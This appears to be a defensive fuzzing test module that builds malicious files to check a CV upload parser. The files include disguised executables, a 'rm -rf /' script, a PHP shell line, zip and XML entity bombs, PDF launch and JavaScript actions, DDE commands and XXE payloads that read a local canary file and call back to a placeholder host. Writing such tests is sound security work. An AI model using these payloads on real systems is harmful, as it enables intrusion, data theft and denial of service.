"""Files made to do harm: each a name, its bytes, and what it would like to happen. {host} is where it would call home."""

import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.fuzzing.seeds import PARAGRAPHS, WORD, packed, small_docx, small_pdf, written_pdf

SHOWN = b"BT /F 12 Tf 50 700 Td (Nadia Petrova engineer) Tj ET"
PDF, DOCX = small_pdf(SHOWN), small_docx(PARAGRAPHS[0])
TEXT = b"Nadia Petrova\nengineer\n"
MAIN = "word/document.xml"


def renamed() -> Iterator[tuple[str, bytes]]:
    """Files that are not what their name says, or two things at once."""
    programs = {
        "exe": b"MZ\x90\0" + bytes(200), "elf": b"\x7fELF\2\1\1" + bytes(80), "script": b"#!/bin/sh\nrm -rf /\n",
        "png": b"\x89PNG\r\n\x1a\n" + bytes(100), "gif": b"GIF89a" + bytes(40), "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(99),
        "html": b"<html><body>hi</body></html>", "html after a remark": b"<!-- x --><html><script>1</script></html>",
        "html with a mark": b"\xef\xbb\xbf <script>alert(1)</script>", "svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "php": b"<?php system('id'); ?>", "xml": b"<?xml version='1.0'?><x/>", "rtf": b"{\\rtf1 hello}", "postscript": b"%!PS-Adobe-3.0\n",
        "mail": b"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>1</script>", "font": b"\0\1\0\0" + bytes(range(1, 60)) * 2 + bytes(80),
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(90), "wasm": b"\0asm\1\0\0\0" + bytes(40), "sqlite": b"SQLite format 3\0" + bytes(200),
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(300), "gzip": zlib.compress(b"x" * 900), "mp4": b"\0\0\0\x18ftypmp42" + bytes(90),
    }  # fmt: skip
    for what, data in programs.items():
        yield f"{what} as text", "cv.txt", data
    for what in ("png", "html", "exe", "svg"):
        yield f"{what} as PDF", "cv.pdf", programs[what]
    archives = {
        "xlsx": packed({"[Content_Types].xml": "", "xl/workbook.xml": ""}),
        "xlsx with a document": packed({"xl/workbook.xml": "", MAIN: "<x/>"}),
        "jar with a document": packed({"META-INF/MANIFEST.MF": "", MAIN: "<x/>"}),
        "apk with a document": packed({"AndroidManifest.xml": "", MAIN: "<x/>"}),
        "open document": packed({"mimetype": "application/vnd.oasis.opendocument.text", MAIN: "<x/>"}),
        "document with macros": packed({MAIN: "<x/>", "word/vbaProject.bin": b"\xd0\xcf"}),
        "any archive": packed({"cv.txt": "hello"}),
    }
    for what, data in archives.items():
        yield what, "cv.docx", data
    yield "PDF as DOCX", "cv.docx", PDF
    yield "DOCX as PDF", "cv.pdf", DOCX
    yield "PDF as text", "cv.txt", PDF
    yield "text as PDF", "cv.pdf", TEXT
    yield "text as DOCX", "cv.docx", TEXT
    yield "PDF and archive at once", "cv.pdf", PDF + DOCX
    yield "text and PDF at once", "cv.txt", b"Nadia Petrova\n" + b"%PDF-1.4\n1 0 obj<<>>endobj\n"
    yield "DOCX and PDF at once", "cv.docx", packed({"%PDF-1.4": "x", MAIN: "<x/>"}, zipfile.ZIP_STORED)
    yield "picture and PDF at once", "cv.pdf", b"GIF89a/*" + PDF


def bombs() -> Iterator[tuple[str, bytes]]:
    yield "flat", packed({MAIN: b"<a>" + b"0" * 61 * 1024 * 1024})
    yield "steep", packed({MAIN: "<a/>", "word/media/x.bin": bytes(9 * 1024 * 1024)})
    yield "nested", _nested()
    yield "quoted overlap", _overlapping(quoted=True)
    yield "overlap", _overlapping(quoted=False)
    yield "many entries", packed({f"word/part{n}.xml": "" for n in range(1_200)} | {MAIN: "<a/>"})
    yield "long listing", _long_listing()
    yield "sixty-four bits", _sixty_four()
    yield "says less than it is", _lying()
    yield "laughter", packed({MAIN: _laughter()})


def _nested() -> bytes:
    inner = packed({f"{n}.bin": bytes(1024 * 1024) for n in range(20)})
    return packed({MAIN: "<a/>"} | {f"word/embeddings/{n}.zip": inner * 40 for n in range(16)})


def _listed(name: bytes, *, at: int, size: int, packed_size: int, crc: int, method: int = 8) -> bytes:
    head = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, method, 0, 0, crc, packed_size, size, len(name), 0, 0, 0, 0, 0, at
    )
    return head + name


def _local(name: bytes, *, size: int, packed_size: int, crc: int) -> bytes:
    return struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, packed_size, size, len(name), 0) + name


def _ended(body: bytes, listing: bytes, entries: int) -> bytes:
    return body + listing + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, entries, entries, len(listing), len(body), 0)


def _overlapping(*, quoted: bool) -> bytes:
    """A hundred entries over one kernel: all of them it, or each quoting the heads of those after it (Fifield 2019)."""
    content = b"0" * 1_000_000
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel, crc = press.compress(content) + press.flush(), zlib.crc32(content)
    names = [MAIN.encode(), *(b"word/header%d.xml" % n for n in range(50))]
    heads = [_local(name, size=len(content), packed_size=len(kernel), crc=crc) for name in names]
    if not quoted:
        body = heads[0] + kernel
        listing = b"".join(_listed(n, at=0, size=len(content), packed_size=len(kernel), crc=crc) for n in names)
        return _ended(body, listing, len(names))
    body, listing, at = b"".join(heads) + kernel, b"", 0
    for name, head in zip(names, heads, strict=True):
        listing += _listed(name, at=at, size=len(content), packed_size=len(body) - at - len(head), crc=crc)
        at += len(head)
    return _ended(body, listing, len(names))


def _long_listing() -> bytes:
    entry = _listed(b"a", at=0, size=0, packed_size=0, crc=0, method=0)
    listing = entry * (9 * 1024 * 1024 // len(entry)) + _listed(MAIN.encode(), at=0, size=0, packed_size=0, crc=0)
    return _ended(_local(b"a", size=0, packed_size=0, crc=0), listing, 0xFFFF)


def _sixty_four() -> bytes:
    """The small end says nothing of note; the large one before it counts."""
    whole = _long_listing()
    body, end = whole[:-22], whole[-22:]
    start = len(_local(b"a", size=0, packed_size=0, crc=0))
    size = len(body) - start
    large = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, 1 << 20, 1 << 20, size, start)
    locator = struct.pack("<4sLQL", b"PK\6\7", 0, len(body), 1)
    return body + large + locator + end[:12] + struct.pack("<2LH", 46, start, 0)


def _lying() -> bytes:
    """Its listing says ten bytes, and what it unfolds to is fifty megabytes."""
    data = bytearray(packed({MAIN: b"<a>" + b"0" * 50 * 1024 * 1024}))
    for sign, place in ((b"PK\1\2", 24), (b"PK\3\4", 22)):
        at = data.rindex(sign) if sign == b"PK\1\2" else 0
        data[at + place : at + place + 4] = (10).to_bytes(4, "little")
    return bytes(data)


def _laughter() -> str:
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    return f"<?xml version='1.0'?><!DOCTYPE x [{lines}]><w:document xmlns:w='{WORD}'>&l11;</w:document>"


def harmful_pdfs(host: str, canary: str) -> Iterator[tuple[str, bytes]]:
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
    font, stream = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", b"<</Length %d>>stream\n%s\nendstream"
    drawn = stream % (len(SHOWN), SHOWN)

    def one(catalogue="", resources="", more="", content=drawn, pages="<</Type/Pages/Kids[3 0 R]/Count 1>>", others=()):
        objects = [
            f"<</Type/Catalog/Pages 2 0 R{catalogue}>>".encode(),
            pages.encode(),
            (page % (resources, more)).encode(),
        ]
        return written_pdf([*objects, content, font, *others])

    looping = stream % (5, b"/X Do")
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
    files = f"/F<</Type/Filespec/F({canary})>>"
    actions = {
        "script": f"/S/JavaScript/JS(app.launchURL\\('http://{host}/js'\\))", "launch": "/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>",
        "address": f"/S/URI/URI(http://{host}/uri)", "other file": f"/S/GoToR/F({canary})/D[0/Fit]", "sent form": f"/S/SubmitForm/F(http://{host}/form)",
        "imported data": f"/S/ImportData/F({canary})", "sound": f"/S/Sound/Sound<</F(http://{host}/snd)>>", "embedded": f"/S/GoToE/F({canary})",
    }  # fmt: skip
    for what, action in actions.items():
        yield f"opens with: {what}", one(catalogue=f"/OpenAction<</Type/Action{action}>>/AA<</WC<<{action}>>>>")
        yield (
            f"on showing: {what}",
            one(more=f"/AA<</O<<{action}>>>>/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<<{action}>>>>]"),
        )
    yield "content elsewhere", one(content=f"<</Length 0{files}>>stream\n\nendstream".encode())
    yield (
        "content at an address",
        one(content=f"<</Length 0/FS/URL/F<</FS/URL/F(http://{host}/c)>>>>stream\n\nendstream".encode()),
    )
    picture = f"<</Type/XObject/Subtype/Image/Width 9/Height 9/Length 0{files}>>stream\n\nendstream".encode()
    yield "picture elsewhere", one(resources="/XObject<</X 6 0 R>>", content=looping, others=[picture])
    yield (
        "referred page",
        one(resources=f"/XObject<</X<</Subtype/Form/Ref<</F({canary})/Page 0>>>>>>", content=looping),
    )
    yield "script in names", one(catalogue=f"/Names<</JavaScript<</Names[(a)<<{actions['script']}>>]>>>>")
    yield "form that computes", one(catalogue=f"/AcroForm<</XFA({host})/Fields[]/CO[]>>")
    yield "page tree in a circle", one(pages="<</Type/Pages/Kids[2 0 R]/Count 9>>")
    yield "page tree of millions", one(pages="<</Type/Pages/Kids[3 0 R]/Count 2000000>>")
    yield "form draws itself", one(resources="/XObject<</X 6 0 R>>", content=looping, others=[form])
    yield "length of itself", one(content=b"<</Length 4 0 R>>stream\n" + SHOWN + b"\nendstream")
    yield "filters in a row", one(content=b"<</Length 9/Filter[%s]>>stream\nx\nendstream" % (b"/FlateDecode" * 9_000))
    yield "deep arrays", one(more="/X" + "[" * 60_000 + "]" * 60_000)
    yield "deep words", one(content=stream % (400_000, b"q " * 200_000))
    yield "wide page", small_pdf(SHOWN, media="0 0 100000 100000")
    yield "page of nothing", small_pdf(SHOWN, media="0 0 0 0")
    yield "page of no numbers", small_pdf(SHOWN, media="0 0 1e308 nan")
    yield "unfolds", one(content=_unfolding(100_000_000))
    yield "many letters", one(content=stream % (2_600_013, b"BT /F 1 Tf " + b"(aaaaaaaaaa)Tj" * 200_000))
    table = PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % PDF.rindex(b"xref\n0"))
    yield "table before itself", table
    yield "table of objects of objects", PDF.replace(b"/Root 1 0 R", b"/Root 6 0 R/XRefStm 9")
    yield "type 3 letters that draw themselves", one(others=[b"<</Type/Font/Subtype/Type3/CharProcs<</a 6 0 R>>>>"])
    yield (
        "pattern in itself",
        one(
            resources="/Pattern<</P 6 0 R>>",
            others=[b"<</PatternType 1/Resources<</Pattern<</P 6 0 R>>>>/Length 0>>stream\n\nendstream"],
        ),
    )
    yield "words about itself (XMP)", one(catalogue="/Metadata 6 0 R", others=[_metadata(host, canary)])


def _unfolding(size: int) -> bytes:
    packed_ = zlib.compress(b" " * size, 9)
    return b"<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed_), packed_)


def _metadata(host: str, canary: str) -> bytes:
    xml = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{canary}"><!ENTITY b SYSTEM "http://{host}/xmp">]><x>&a;&b;</x>'.encode()
    return b"<</Type/Metadata/Subtype/XML/Length %d>>stream\n%s\nendstream" % (len(xml), xml)


def harmful_documents(host: str, canary: str) -> Iterator[tuple[str, bytes]]:
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    shown = PARAGRAPHS[0]

    def one(body=shown, **more):
        xml = f'<w:document xmlns:w="{WORD}" xmlns:r="{rel}"><w:body>{body}</w:body></w:document>'
        return packed(
            {"[Content_Types].xml": "<Types/>", MAIN: xml} | {k.replace("__", "/"): v for k, v in more.items()}
        )

    def related(kind, target):
        xml = f'<Relationships><Relationship Id="r1" Type="{rel}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        return packed(
            {
                MAIN: f'<w:document xmlns:w="{WORD}"><w:body>{shown}</w:body></w:document>',
                "word/_rels/document.xml.rels": xml,
            }
        )

    for kind in ("image", "attachedTemplate", "aFChunk", "oleObject", "subDocument", "hyperlink", "frame"):
        for target in (f"http://{host}/{kind}", f"file://{canary}"):
            yield f"related {kind} at {target[:4]}", related(kind, target)
    for order in (
        f'INCLUDETEXT "{canary}"',
        f'INCLUDEPICTURE "http://{host}/p"',
        f"DDEAUTO cmd /c {canary}",
        f'IMPORT "{canary}"',
    ):
        field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{order}</w:instrText></w:r></w:p>'
        yield f"field {order.split()[0]}", one(field + shown)
    yield "tables in tables", one("<w:tbl><w:tr><w:tc>" * 80 + shown + "</w:tc></w:tr></w:tbl>" * 80)
    yield "deeper than a parser goes", one("<w:p>" * 50_000 + "</w:p>" * 50_000)
    yield (
        "spans without end",
        one('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999999"/></w:tcPr></w:tc></w:tr></w:tbl>'),
    )
    yield "styles in a circle", one('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr></w:p>', **{
        "word__styles.xml": f'<w:styles xmlns:w="{WORD}"><w:style w:styleId="A"><w:basedOn w:val="A"/></w:style></w:styles>'})  # fmt: skip
    yield "a million paragraphs", one("<w:p/>" * 1_000_000)
    yield "one long word", one(f"<w:p><w:r><w:t>{'a' * 700_000}</w:t></w:r></w:p>")


def entities(host: str, canary: str) -> Iterator[tuple[str, bytes]]:
    """XML that wants to be more than it is (S-55), in each part that is read and in two that are not."""
    heads = {
        "file": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{canary}">]>', "address": f'<!DOCTYPE x [<!ENTITY e SYSTEM "http://{host}/e">]>',
        "rules": f'<!DOCTYPE x SYSTEM "http://{host}/x.dtd" [<!ENTITY e "x">]>',
        "parameter": f'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://{host}/p">%p;<!ENTITY e "x">]>',
        "attribute": '<!DOCTYPE x [<!ENTITY e "aaaaaaaaaa"><!ATTLIST x y CDATA "&e;&e;&e;">]>',
        "inclusion": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{canary}"/>',
    }  # fmt: skip
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Nadia %s</w:t></w:r></w:p></w:body></w:document>'
    for what, head in heads.items():
        xml = body % head if what == "inclusion" else head + body % "&e;"
        for encoding in ("utf-8", "utf-16"):
            yield f"{what} in {encoding}", packed({MAIN: xml.encode(encoding)})
        yield f"{what} in styles", packed({MAIN: body % "Petrova", "word/styles.xml": xml})
        yield (
            f"{what} in what is not read",
            packed({MAIN: body % "Petrova", "[Content_Types].xml": xml, "docProps/app.xml": xml}),
        )
